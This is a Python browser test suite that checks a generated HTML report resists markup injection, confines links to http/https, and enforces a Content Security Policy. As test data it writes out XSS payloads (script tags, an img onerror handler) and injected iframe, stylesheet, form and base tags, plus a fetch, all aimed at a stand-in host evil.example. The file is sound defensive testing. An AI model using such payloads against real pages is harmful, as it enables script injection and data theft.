# SPDX-License-Identifier: Apache-2.0
"""What crawls contain never becomes markup or script, and nothing leaves the page."""

import re
import sys

from browser import SHOTS, expect, opened, run_tests

# Elements and attributes that the bundle makes; anything else came out of a text.
ELEMENTS = set("""html head meta link title style body header h1 bdi p noscript main script nav ol li a dl div dt dd section h2 span button
svg line rect g path text tspan circle clippath table thead tbody tr th td input footer code""".split())
TURNS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u2028\u0000"


def test_texts_stay_texts(browser, paths):
    with opened(browser, paths["hostile"]) as report:
        report.page.screenshot(path=SHOTS / "hostile.png", clip={"x": 0, "y": 0, "width": 1200, "height": 3000}, full_page=True)
        for section in report.page.locator("section.figure").all():
            section.get_by_role("button", name="Data").click()
            section.locator(".picture svg").scroll_into_view_if_needed()
            section.locator(".picture svg").hover(force=True)  # tips are texts too
        names = set(report.page.evaluate("[...document.querySelectorAll('*')].map(one => one.localName.toLowerCase())"))
        expect(names <= ELEMENTS, f"elements from nowhere: {names - ELEMENTS}")
        expect(report.page.locator("script").count() == 2 and report.page.locator("head *").count() == 9, "the frame as it was made")
        attributes = report.page.evaluate("[...document.querySelectorAll('*')].flatMap(one => one.getAttributeNames())")
        expect(not [name for name in attributes if name.startswith("on")], "attributes that listen")
        expect("owned" not in report.page.title() or "javascript:" in report.page.title(), "the title is a text")
        shown = report.page.evaluate("document.body.innerText")
        expect("<script>alert(1)</script>" in shown, "what is hostile is shown as it is")
        expect(not [turn for turn in TURNS if turn in shown], "nothing turns the writing round")
        expect(len(max(shown.split("\n"), key=len)) < 2000, "long texts are shortened")


def test_only_the_web_is_linked(browser, paths):
    with opened(browser, paths["hostile"]) as report:
        links = report.page.evaluate(
            "[...document.querySelectorAll('a')].map(one => [one.getAttribute('href'), one.rel, one.protocol])")
        outside = [link for link in links if not link[0].startswith("#")]
        expect(len(outside) == 5, f"http and https of the table: {[link[0][:40] for link in outside]}")
        for address, relation, protocol in outside:
            expect(protocol in ("http:", "https:") and relation == "noopener noreferrer nofollow", address[:80])
            expect(re.fullmatch(r"[!#-;=?-~]*", address), f"written out as a url: {address[:80]}")


def test_injected_script_cannot_run(browser, paths):
    """The policy stops even an attacker who found a way to write into the page."""
    path = paths["hostile"]
    text = path.read_text(encoding="utf-8", errors="strict")
    broken = path.with_suffix(".broken.html")
    broken.write_text(text.replace("</body>", "<script>window.ran = 1</script><img src=x onerror='window.ran = 2'>"
                                   "<iframe src='https://evil.example/'></iframe><style>body{display:none}</style>"
                                   "<link rel=stylesheet href='https://evil.example/x.css'><form action='https://evil.example'></form>"
                                   "<base href='https://evil.example/'></body>"), encoding="utf-8")
    context = browser.new_context()
    page = context.new_page()
    asked, refused = [], []
    page.on("requestfinished", lambda request: asked.append(request.url))
    page.on("console", lambda message: refused.append(message.text))
    page.goto(broken.as_uri())
    broken.unlink()
    expect(page.evaluate("window.ran") is None, "an injected script ran")
    expect(page.evaluate("getComputedStyle(document.body).display") != "none", "an injected style held")
    expect(page.evaluate("document.baseURI").startswith("file:"), "an injected base held")
    expect([url for url in asked if not url.startswith(("data:", broken.as_uri()))] == [], f"asked for {asked}")
    expect(len([text for text in refused if "Content Security Policy" in text or "violates" in text]) >= 5, f"refusals: {refused}")
    outcome = page.evaluate("try { document.body.innerHTML = '<b>x</b>'; 'made' } catch (error) { error.name }")
    expect(outcome == "TypeError", f"text became markup: {outcome}")
    expect(page.evaluate("fetch('https://evil.example/').then(() => 'sent', () => 'refused')") == "refused", "data could leave")
    context.close()


TESTS = [test_texts_stay_texts, test_only_the_web_is_linked, test_injected_script_cannot_run]

if __name__ == "__main__":
    run_tests(TESTS, ["hostile"])
    sys.exit(0)
